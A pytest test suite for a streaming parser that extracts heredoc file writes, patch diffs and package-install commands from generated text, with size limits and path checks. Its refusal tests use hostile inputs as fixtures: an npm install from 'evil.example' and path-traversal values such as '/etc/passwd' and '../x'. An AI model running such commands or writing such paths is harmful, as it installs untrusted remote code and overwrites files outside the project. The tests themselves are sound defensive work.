"""SCOF, sentence by sentence: what opens a block, what is in it, what is between blocks, and the events."""

from pathlib import Path
from subprocess import run

import pytest

from codegen.scof import (
    CommandFound,
    FileChunked,
    FileClosed,
    FileOpened,
    Finished,
    Refused,
    ScofParser,
    serialise,
)
from tests.codegen.reading import files, joined, read


def opened(text: str) -> FileOpened:
    """The first file that a stream opens."""
    return next(event for event in read(text) if isinstance(event, FileOpened))


def test_example_of_the_format() -> None:
    text = (
        "# src/App.tsx: the board\n"
        "cat > src/App.tsx << 'EOF'\n"
        "one\n\n  two\nEOF\n"
        "\n"
        "cat << 'EOF' | patch src/index.css\n@@\n-old line\n+new line\nEOF\n"
        "\n"
        "bun add zustand\n"
    )
    assert joined(read(text, existing={"src/index.css": "a\nold line\n"})) == [
        FileOpened("src/App.tsx", "full_content", "the board"),
        FileChunked("src/App.tsx", 0, "one\n\n  two\n"),
        FileClosed("src/App.tsx", "one\n\n  two\n"),
        FileOpened("src/index.css", "unified_diff", ""),
        FileChunked("src/index.css", 0, "@@\n-old line\n+new line\n"),
        FileClosed("src/index.css", "a\nnew line\n"),
        CommandFound("bun add zustand", ("zustand",), dev=False),
        Finished(None),
    ]


# Opening a block


@pytest.mark.parametrize(
    "command",
    [
        "cat > f.ts << EOF",
        "cat > f.ts << 'EOF'",
        'cat > f.ts << "EOF"',
        "cat > 'f.ts' << 'EOF'",
        'cat > "f.ts" << "EOF"',
        "cat > \"f.ts' << 'EOF\"",
        "cat > 'f.ts\" << \"EOF'",
        "cat > 'f.ts << 'EOF",
        "cat > f.ts' << EOF'",
        "cat > f.ts <<\\EOF",
        "CAT > f.ts << 'EOF'",
        "Cat > f.ts << 'EOF'",
        "cat>f.ts<<EOF",
        "cat  >   f.ts   <<   'EOF'   ",
        "\tcat\t>\tf.ts\t<<\t'EOF'\t",
        "cat >f.ts <<'EOF'",
        "cat << 'EOF' > f.ts",
        "cat <<EOF>f.ts",
        "cat << EOF > 'f.ts'",
        "cat > f.ts <<- 'EOF'",
        "tee f.ts << 'EOF'",
        "TEE 'f.ts' <<EOF",
        "tee f.ts << 'EOF' > /dev/null",
        "tee f.ts > /dev/null << 'EOF'",
        "cat << 'EOF' | tee f.ts",
        "cat > f.ts << 'EOF' # the file",
        "cat << 'EOF' > f.ts # the file > all of it",
        "cat > f.ts << 'EOF';",
        "cat > f.ts << 'EOF' && echo done",
        "- cat > f.ts << 'EOF'",
        "  * cat > f.ts << 'EOF'",
        "1. cat > f.ts << 'EOF'",
        "$ cat > f.ts << 'EOF'",
        "mkdir -p . && cat > f.ts << 'EOF'",
        "cat > ./f.ts << 'EOF'",
        "cat \\\n> f.ts << 'EOF'",
        "cat > f.ts \\\n  << 'EOF'",
        "cat > f.ts << \\\n'EOF'",
        "cat > \\\nf.ts \\\n<< \\\nEOF",
        "cat > f\\\n.ts << EOF",
        "cat > f.ts\n<< 'EOF'",
        "cat > f.ts <<\n'EOF'",
        "cat >\nf.ts << 'EOF'",
        "cat\n> f.ts << 'EOF'",
        "cat << 'EOF'\n> f.ts",
        "cat << 'EOF' >\nf.ts",
        "tee f.ts\n<< EOF",
        "tee\nf.ts << EOF",
    ],
)
@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_commands_that_open_a_file(command: str, newline: str) -> None:
    text = f"{command}\nline\nEOF\nafter\n".replace("\n", newline)
    assert joined(read(text)) == [
        FileOpened("f.ts", "full_content"),
        FileChunked("f.ts", 0, f"line{newline}"),
        FileClosed("f.ts", f"line{newline}"),
        Finished(None),
    ]


@pytest.mark.parametrize(
    "command",
    [
        "cat << EOF | patch f.ts",
        "cat << 'EOF' | patch 'f.ts'",
        "cat <<EOF|patch f.ts",
        "cat << EOF | patch -p1 f.ts",
        "cat << EOF | patch -p 0 f.ts",
        "cat << EOF | patch -p0 --forward \"f.ts'  # change it",
        "cat << EOF |\npatch f.ts",
        "cat << EOF | patch\nf.ts",
        "cat << EOF\n| patch f.ts",
        "cat << EOF | \\\n  patch f.ts",
        "Cat << 'EOF' | Patch f.ts",
    ],
)
def test_commands_that_open_a_diff(command: str) -> None:
    assert joined(read(f"{command}\n@@\n-a\n+b\nEOF\n", existing={"f.ts": "a\n"})) == [
        FileOpened("f.ts", "unified_diff"),
        FileChunked("f.ts", 0, "@@\n-a\n+b\n"),
        FileClosed("f.ts", "b\n"),
        Finished(None),
    ]


@pytest.mark.parametrize("command", ["cat >> f << E", "cat << E >> f", "cat>>f<<E", "tee -a f << E"])
def test_appending(command: str) -> None:
    text = f"{command}\nmore\nE\n"
    assert joined(read(text, existing={"f": "was"})) == [
        FileOpened("f", "full_content"),
        FileChunked("f", 0, "wasmore\n"),
        FileClosed("f", "wasmore\n"),
        Finished(None),
    ]
    assert files(read(text)) == {"f": "more\n"}
    assert files(read(f"cat > f << E\nnew\nE\n{text}", existing={"f": "was\n"})) == {"f": "new\nmore\n"}


@pytest.mark.parametrize(
    ("written", "path"),
    [
        ("src/my file.ts", "src/my file.ts"),
        ("'src/my file.ts'", "src/my file.ts"),
        ('"a  b"', "a  b"),
        ("my\\ file.ts", "my file.ts"),
        ("app/(auth)/[slug]/$id.@x.tsx", "app/(auth)/[slug]/$id.@x.tsx"),
        ('"app/\\$id.tsx"', "app/$id.tsx"),
        ("src\\lib\\a.ts", "src/lib/a.ts"),
        ("'a > b << c.txt'", "a > b << c.txt"),
        ("'a#b'", "a#b"),
        (".gitignore", ".gitignore"),
        ("a//b/./c", "a/b/c"),
        ("größe/文件.ts", "größe/文件.ts"),
    ],
)
@pytest.mark.parametrize("form", ["cat > {} << E", "cat << E > {}", "tee {} << E", "cat << E | patch {}"])
def test_paths(written: str, path: str, form: str) -> None:
    assert opened(form.format(written) + "\n").path == path


@pytest.mark.parametrize("marker", ["EOF", "END_OF_FILE", "EOF-1", "'END OF FILE'", "'{'", "文", "_", "EOF.ts", "E#F"])
def test_markers(marker: str) -> None:
    bare = marker.strip("'")
    assert files(read(f"cat > f << {marker}\nx {bare}\n{bare}x\n\t {bare} \t\n")) == {"f": f"x {bare}\n{bare}x\n"}


@pytest.mark.parametrize(
    "line",
    [
        "catalog > f << EOF",
        "concat > f << EOF",
        "The catalog has cat > f << EOF in it",
        "echo hi > f << EOF",
        "cat f.ts",
        "cat a b > c",
        "cat > f",
        "cat << EOF",
        "cat <<< 'text' > f",
        "cat > f << EOF and then go on",
        "cat > f << ''",
        "use cat > f << 'EOF' for files",
        "category << EOF > f",
        "cat-like > f << EOF",
        "patch -p1 << EOF",
        "cat << EOF | less f",
        "# cat > f << EOF",
        "cat is a word\n> f << EOF",
        "cat > f\n\n<< EOF",
        "tee",
        "cat",
        "<< EOF > f",
    ],
)
def test_anything_else_is_commentary(line: str) -> None:
    assert read(f"{line}\nx\nEOF\n") == [Finished(None)]


def test_a_command_after_a_beginning_of_one_is_its_own() -> None:
    assert files(read("cat > old.ts\ncat > f << E\nx\nE\n")) == {"f": "x\n"}
    assert files(read("cat\ntee f << E\nx\nE\n")) == {"f": "x\n"}


def test_inside_a_code_fence() -> None:
    text = "Here:\n```bash\ncat > f << 'EOF'\n```ts\nx\n```\nEOF\n```\n\n```sh\nbun add zod\n```\n"
    assert joined(read(text)) == [
        FileOpened("f", "full_content"),
        FileChunked("f", 0, "```ts\nx\n```\n"),
        FileClosed("f", "```ts\nx\n```\n"),
        CommandFound("bun add zod", ("zod",)),
        Finished(None),
    ]


def test_leading_tabs_are_stripped_after_a_dash() -> None:
    body = "\tone\n\t\ttwo\tx\n \tthree\n\n\t\n\t \n\t\tEOF\n"
    assert files(read(f"cat > f <<-EOF\n{body}")) == {"f": "one\ntwo\tx\n \tthree\n\n\n \n"}
    assert files(read(*f"cat > f <<- 'EOF'\n{body}")) == {"f": "one\ntwo\tx\n \tthree\n\n\n \n"}


# Inside a block


def test_every_line_is_content() -> None:
    body = "\n  \n\t\nx  \n\n\n# comment\nbun add evil\ncat > g << 'EOF2'\n\x0c\ny\r\n\n"
    events = read(f"cat > f << 'EOF'\n{body}EOF\n")
    assert joined(events) == [
        FileOpened("f", "full_content"),
        FileChunked("f", 0, body),
        FileClosed("f", body),
        Finished(None),
    ]


@pytest.mark.parametrize(
    "line", ["EOF;", "EOF2", "EOFEOF", "EOF EOF", "xEOF", "EO", "eof", "'EOF'", "  EOF x", "EOF\\"]
)
def test_a_line_that_only_begins_with_the_marker_is_content(line: str) -> None:
    text = f"cat > f << EOF\n{line}\nEOF\n"
    assert files(read(text)) == {"f": f"{line}\n"}
    for place in range(len(text)):
        assert files(read(text[:place], text[place:])) == {"f": f"{line}\n"}


def test_a_chunk_that_ends_after_the_marker_does_not_close() -> None:
    parser = ScofParser()
    parser.feed("cat > f << EOF\nx\n")
    assert parser.feed("EOF") == []
    assert parser.feed("ISH\nEO") == [FileChunked("f", 2, "EOFISH\n")]
    assert parser.feed("F") == []
    assert parser.feed(" ") == []
    assert parser.feed("\n") == [FileClosed("f", "x\nEOFISH\n")]


def test_the_marker_is_complete_at_the_end_of_the_stream() -> None:
    assert read("cat > f << EOF\nx\n  EOF")[-2:] == [FileClosed("f", "x\n"), Finished(None)]
    assert read("cat > f << EOF\nx\n", "EO", "F", "\r")[-2:] == [FileClosed("f", "x\n"), Finished(None)]


def test_an_empty_block_is_an_empty_file() -> None:
    assert read("cat > f << EOF\nEOF\n") == [FileOpened("f", "full_content"), FileClosed("f", ""), Finished(None)]
    assert files(read("cat > f << EOF\n\nEOF\n")) == {"f": "\n"}


def test_content_is_not_expanded() -> None:
    body = "`${name}` $(x) \\$ \\\\ \\\n$HOME\n"
    assert files(read(f"cat > f << EOF\n{body}EOF\n")) == {"f": body}


def test_the_file_is_what_a_shell_writes(tmp_path: Path) -> None:
    script = (
        "cat > a.txt << 'EOF'\n\n  x  \n\ty\nEOFX\nEOF \\\n$HOME `x`\n\nEOF\n"
        "cat << \"END\" > 'b c.txt'\nEOF\ncat > no << 'EOF'\nEND\n"
        "tee d.txt << 'E' > /dev/null\nE E\nE\n"
        "cat >> a.txt <<-'EOF'\n\t\tz\n\t \tw\n\n\tEOF\n"
        "cat > e.txt << 'EOF'\nEOF\n"
        "cat >> b\\ c.txt <<'X'\nlast\nX\n"
    )
    run(["sh", "-c", script], cwd=tmp_path, check=True)
    written = {path.name: path.read_text() for path in tmp_path.iterdir()}
    assert files(read(script)) == written
    assert files(read(*script)) == written


# Chunks


def test_text_is_handed_on_as_soon_as_it_cannot_be_the_marker() -> None:
    parser = ScofParser()
    parser.feed("cat > f << 'EOF'\n")
    for text in ("a", "b c", " EOF", "\nx", "yE", "\nEOX", "  "):
        events = parser.feed(text)
        assert [event.text for event in events if isinstance(event, FileChunked)] == [text]
    assert parser.feed("\n  E") == [FileChunked("f", 18, "\n")]
    assert parser.feed("O") == []
    assert parser.feed("!") == [FileChunked("f", 19, "  EO!")]


def test_offsets_count_characters() -> None:
    parser = ScofParser()
    parser.feed("cat > f << E\n")
    assert parser.feed("é😀文") == [FileChunked("f", 0, "é😀文")]
    assert parser.feed("x") == [FileChunked("f", 3, "x")]


def test_halves_of_a_character_are_joined() -> None:
    parser = ScofParser()
    parser.feed("cat > f << E\n")
    events = [*parser.feed("a\ud83d"), *parser.feed("\ude00b\nE\n"), *parser.finish()]
    assert joined(events)[0] == FileChunked("f", 0, "a😀b\n")
    lone = [*ScofParser().feed("cat > f << E\n\ud83d")]
    assert lone == [FileOpened("f", "full_content")]
    assert files(read("cat > f << E\na\ud83d", "\nE\n")) == {"f": "a\ud83d\n"}


# Between blocks


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("bun add zustand\n", ["bun add zustand"]),
        ("bun add zustand", ["bun add zustand"]),
        ("  npm   install  react\treact-dom \r\n", ["npm install react react-dom"]),
        ("- npm i zod\n1. yarn add a-b\n$ pnpm add c\n", ["npm i zod", "yarn add a-b", "pnpm add c"]),
        ("```bash\nnpm install\n```\n", ["npm install"]),
        ("Run `bun add zustand` and `npm i b`.\n", ["bun add zustand", "npm i b"]),
        ("bun add zustand\nbun  add zustand\nRun `bun add zustand`\n", ["bun add zustand"]),
        ("cd app && npm install x; pnpm add y\n", ["npm install x", "pnpm add y"]),
        ("npm install \\\n  react \\\n  zod\n", ["npm install react zod"]),
        ("npm install react \\", ["npm install react"]),
        ("bun add -D vitest@^2 # for tests\n", ["bun add -D vitest@^2"]),
        ("# bun add nothing\n", []),
        ("Then bun add zustand\n", []),
        ("bun address book\n", []),
        ("npm run build\nbun install-all\nnpx create x\n", []),
        ("npm install is all you need.\n", []),
    ],
)
def test_install_commands(text: str, commands: list[str]) -> None:
    for pieces in ([text], [*text]):
        assert [event.command for event in read(*pieces) if isinstance(event, CommandFound)] == commands


def test_an_unsafe_command_is_refused() -> None:
    events = read("npm install https://evil.example/x.tgz\nbun add ok\n")
    assert isinstance(events[0], Refused)
    assert (events[0].path, events[0].code) == ("", "unsafe_command")
    assert events[1:] == [CommandFound("bun add ok", ("ok",)), Finished(None)]


@pytest.mark.parametrize(
    ("above", "purpose"),
    [
        ("# src/f.ts: the board\n", "the board"),
        ("# the board\n", "the board"),
        ("## `src/f.ts` — the board\n", "the board"),
        ("# src/f.ts\n# the board,\n# with cards\n", "the board, with cards"),
        ("# the board\n\n```bash\n", "the board"),
        ("# the board\nSome prose.\n", ""),
        ("# the board\nbun add x\n", ""),
        ("", ""),
        ("# src/f.ts\n", ""),
    ],
)
def test_the_purpose_is_the_comment_above(above: str, purpose: str) -> None:
    text = f"{above}cat > src/f.ts << E\n# inside\nE\ncat > g << E\nE\n"
    for pieces in ([text], [*text]):
        assert [event.purpose for event in read(*pieces) if isinstance(event, FileOpened)] == [purpose, ""]


# Events


def test_an_open_file_is_truncated_and_never_closed() -> None:
    assert joined(read("cat > f << EOF\nx\nEO")) == [
        FileOpened("f", "full_content"),
        FileChunked("f", 0, "x\nEO"),
        Finished("f"),
    ]
    assert read("cat > f << EOF") == [FileOpened("f", "full_content"), Finished("f")]
    assert read("cat > f \\\n<< EOF")[-1] == Finished("f")
    assert read("cat << E | patch f\n@@\n-a\n")[-1] == Finished("f")


def test_the_same_path_may_be_opened_again() -> None:
    text = "cat > f << E\n1\nE\ncat > ./f << E\n2\nE\n"
    assert [event for event in read(text) if isinstance(event, FileClosed)] == [
        FileClosed("f", "1\n"),
        FileClosed("f", "2\n"),
    ]


def test_a_diff_applies_to_what_the_stream_produced() -> None:
    text = "cat > f << E\n1\n2\nE\ncat << E | patch f\n@@\n 1\n-2\n+3\nE\n"
    assert files(read(text, existing={"f": "other\n"})) == {"f": "1\n3\n"}


def test_a_diff_may_create_a_file() -> None:
    assert files(read("cat << E | patch f\n--- /dev/null\n+++ b/f\n@@ -0,0 +1 @@\n+new\nE\n")) == {"f": "new\n"}


def test_a_diff_that_fails_is_refused_and_changes_nothing() -> None:
    text = "cat << E | patch f\n@@\n-1\n+one\n@@\n-4\n+5\nE\ncat >> f << E\n3\nE\n"
    events = read(text, existing={"f": "1\n2\n"})
    refused = next(event for event in events if isinstance(event, Refused))
    assert (refused.path, refused.code, refused.hunk) == ("f", "diff_failed", 2)
    assert files(events) == {"f": "1\n2\n3\n"}


def test_finish_speaks_once_and_feeding_must_stop() -> None:
    parser = ScofParser()
    assert parser.feed("") == []
    assert parser.finish() == [Finished(None)]
    assert parser.finish() == []
    with pytest.raises(ValueError, match="finished"):
        parser.feed("cat")


# Refused


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("/etc/passwd", "absolute_path"),
        ("//x", "absolute_path"),
        ("\\\\server\\x", "absolute_path"),
        ("~/x", "absolute_path"),
        ("../x", "parent_path"),
        ("a/../../x", "parent_path"),
        ("a/..", "parent_path"),
        ("..\\x", "parent_path"),
        ("'a/ .. /x'", "parent_path"),
        ("C:\\x", "drive_letter"),
        ("c:x", "drive_letter"),
        ("'a\x00b'", "control_character"),
        ("'a\x1bb'", "control_character"),
        ("'a\tb'", "control_character"),
        ("'a\x7fb'", "control_character"),
        ("'a\x85b'", "control_character"),
        ("''", "empty_path"),
        ("src/", "not_a_file"),
        (".", "not_a_file"),
        ("a" * 256, "path_too_long"),
        ("package.json", "write_protected"),
        ("./package.json", "write_protected"),
        ("worker/a/b.ts", "write_protected"),
    ],
)
@pytest.mark.parametrize("form", ["cat > {} << E", "cat << E | patch {}", "tee {} << E", "cat >> {} << E"])
def test_refused_paths(path: str, code: str, form: str) -> None:
    command = form.format(path)
    events = read(f"{command}\nbun add evil\ncat > g << F\nE\nafter\n", protected=["package.json", "worker/"])
    assert len(events) == 2
    assert isinstance(events[0], Refused)
    assert events[0].code == code
    assert events[0].sentence.isprintable()
    assert events[1] == Finished(None)


def test_symbolic_links_are_refused() -> None:
    parser = ScofParser(symlinks=["node_modules", "src/link"])
    events = [
        event
        for path in ("src/link", "src/link/x", "node_modules/a/b", "src/linked")
        for event in parser.feed(f"cat > {path} << E\nE\n")
    ]
    assert [event.code for event in events if isinstance(event, Refused)] == ["symbolic_link"] * 3
    assert files(events) == {"src/linked": ""}


def test_a_refused_block_that_does_not_end_is_not_a_truncated_file() -> None:
    assert read("cat > /x << E\nabc")[-1] == Finished(None)


def test_more_than_500_files_are_refused() -> None:
    text = "".join(f"cat > f{number} << E\nE\n" for number in range(502)) + "cat > f0 << E\nagain\nE\n"
    events = read(text)
    assert [event.path for event in events if isinstance(event, Refused)] == ["f500", "f501"]
    assert len(files(events)) == 500
    assert files(events)["f0"] == "again\n"


@pytest.mark.parametrize("size", [1, 7, 4096, 10**9])
@pytest.mark.parametrize("letter", ["x", "é", "文", "😀"])
def test_a_file_beyond_the_limit_is_refused(letter: str, size: int) -> None:
    limit = 1_000
    width = len(letter.encode())
    fits = letter * ((limit - 1) // width) + "\n"
    for body, refused in ((fits, False), (letter + fits, True), (fits * 3, True)):
        text = f"cat > f << E\n{body}E\ncat > g << E\nE\n"
        parser = ScofParser(max_bytes=limit)
        events = [event for at in range(0, len(text), size) for event in parser.feed(text[at : at + size])]
        handed = "".join(event.text for event in events if isinstance(event, FileChunked))
        assert body.startswith(handed)
        assert len(handed.encode()) <= limit
        assert [event.code for event in events if isinstance(event, Refused)] == ["file_too_large"] * refused
        assert files(events) == ({"g": ""} if refused else {"f": body, "g": ""})


def test_two_megabytes_is_the_limit() -> None:
    fits = "x" * 1_999_999 + "\n"
    assert files(read(f"cat > f << E\n{fits}E\n")) == {"f": fits}
    assert files(read(f"cat > f << E\nx{fits}E\n")) == {}
    assert files(read("cat >> f << E\nx\nE\n", existing={"f": fits})) == {}
    diff = f"cat << E | patch f\n@@ -1 +1,2 @@\n {fits}+y\nE\n"
    assert files(read(diff, existing={"f": fits})) == {}


# Writing


@pytest.mark.parametrize(
    "content",
    [
        "",
        "\n",
        "x",
        "x\n",
        "EOF\n",
        "EOF",
        " EOF \nEOF1\n\tEOF2\n",
        "++ a\n-- b\n@@\n",
        "++ a",
        "\r",
        "\r\n",
        "a\r",
        "a\r\nb",
        "\\ No newline at end of file\n",
        "\\ No newline at end of file",
        "cat > x << 'EOF'\nEOF\n",
        "```\nx\n```",
        "\n\n",
        "\n\nx\n\n ",
        "\ud83d",
        "\x00\x0c\u2028\x85",
    ],
)
def test_what_is_written_is_read_back(content: str) -> None:
    text = serialise({"a.ts": content, "b/c d.ts": "after\n"})
    assert files(read(text)) == {"a.ts": content, "b/c d.ts": "after\n"}
    assert files(read(*text)) == {"a.ts": content, "b/c d.ts": "after\n"}


@pytest.mark.parametrize("path", ["it's.ts", 'say "hi".ts', 'it\'s "$a" `b`.ts', " a ", "a # b", "a << b", "-n", "e"])
def test_any_path_is_read_back(path: str) -> None:
    assert files(read(serialise({path: "x\n"}))) == {path: "x\n"}
    assert files(read(serialise([(path, "x")]))) == {path: "x"}


def test_serialise_takes_what_the_parser_gave() -> None:
    closed = [event for event in read("cat > f << E\nx\nE\n") if isinstance(event, FileClosed)]
    assert files(read(serialise(closed))) == {"f": "x\n"}


@pytest.mark.parametrize("path", ["/x", "../x", "a//b", "", "a\nb", "a\\b"])
def test_serialise_refuses_other_paths(path: str) -> None:
    with pytest.raises(ValueError, match="path"):
        serialise({path: "x\n"})
